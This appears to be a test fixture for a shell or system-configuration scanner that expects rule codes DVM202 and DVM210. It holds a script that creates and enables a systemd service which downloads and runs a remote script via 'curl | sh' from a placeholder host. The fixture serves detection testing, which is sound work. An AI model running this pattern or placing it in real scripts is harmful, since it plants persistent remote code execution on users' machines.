# expect: DVM202 DVM210
set -euo pipefail
cat >/etc/systemd/system/up.service <<'U'
[Service]
ExecStart=/bin/sh -c 'curl -s https://example.org/u.sh | sh'
U
systemctl enable --now up
